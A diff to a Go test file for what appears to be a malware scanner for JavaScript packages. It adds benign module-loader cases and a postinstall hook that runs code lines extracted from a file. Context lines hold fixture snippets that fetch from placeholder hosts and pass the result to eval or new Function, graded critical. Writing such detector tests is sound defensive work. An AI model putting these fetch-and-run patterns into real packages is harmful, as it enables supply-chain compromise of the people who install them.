@@ -25,6 +25,10 @@ func TestRemoteEval(t *testing.T) {
 module.exports = async () => { try { await axios.get(url) } catch (err) { run(err.response.data.cookie) } }`}, finding.SeverityCritical},
 		// a module loader compiling the package's files, with no request
 		{"commonjs_wrapper", map[string]string{"index.js": `const fs = require("fs"); module.exports = p => { const m = { exports: {} }; new Function("exports", "require", "module", fs.readFileSync(p, "utf8"))(m.exports, require, m); return m.exports }`}, finding.SeverityNone},
+		// the same loader in a file that also makes requests (a CLI
+		// running Yarn's .pnp.cjs next to its registry calls)
+		{"commonjs_wrapper_with_requests", map[string]string{"index.js": `const fs = require("fs"); fetch(registry); module.exports = p => { const m = { exports: {} }; new Function("module", "exports", "require", fs.readFileSync(p, "utf8").replace(/^#!.*/, ""))(m, m.exports, require); return m.exports }`}, finding.SeverityNone},
+		{"compiled_wrapper_with_requests", map[string]string{"index.js": `const fs_1 = require("fs"); fetch(registry); exports.load = p => new Function("module", "exports", "require", (0, fs_1.readFileSync)(p, "utf-8"))(m, m.exports, require)`}, finding.SeverityNone},
 		{"await_axios", map[string]string{"index.js": `const axios = require("axios"); (async () => { const r = await axios.get("https://x.invalid/c"); eval(r.data.code) })()`}, finding.SeverityCritical},
 		{"https_callback", map[string]string{"index.js": `require("https").get("https://x.invalid", res => { let b=""; res.on("data", d => b += d); res.on("end", () => new Function(res.body)()) })`}, finding.SeverityCritical},
 		{"fetch_then", map[string]string{"index.js": `fetch("https://x.invalid/p").then(resp => eval(resp.text))`}, finding.SeverityCritical},
@@ -71,6 +75,10 @@ function apply(m) { new Function("require", m)(require) } apply(meta("logo.png")
 		// a config file evaluated with require in its context, read from disk
 		{"install_vm_config_file", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node build.js"}}`,
 			"build.js": `const vm = require("vm"), fs = require("fs"); const cfg = vm.runInNewContext(fs.readFileSync("build.config.js", "utf8"), { require, module: {} })`}, finding.SeverityNone},
+		// lines picked out of a file whose path comes through a parameter
+		// (the package's own, its comments mined) and run with require
+		{"install_function_file_lines", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node cli.js --doctest"}}`,
+			"cli.js": `const fs = require("fs"); function doctest(file) { const ex = fs.readFileSync(file, "utf8").split("\n").filter(l => l.startsWith(" * > ")).join("\n"); return Function("require", ex)(require) } doctest(require("path").join(__dirname, "toc.js"))`}, finding.SeverityHigh},
 		// decoded data that is not run
 		{"inflate_font", map[string]string{"index.js": `const zlib = require("zlib"); module.exports = zlib.inflateSync(Buffer.from(require("./font"), "base64"))`}, finding.SeverityNone},
 		{"decoded_json", map[string]string{"index.js": `module.exports = JSON.parse(new TextDecoder().decode(bytes))`}, finding.SeverityNone},
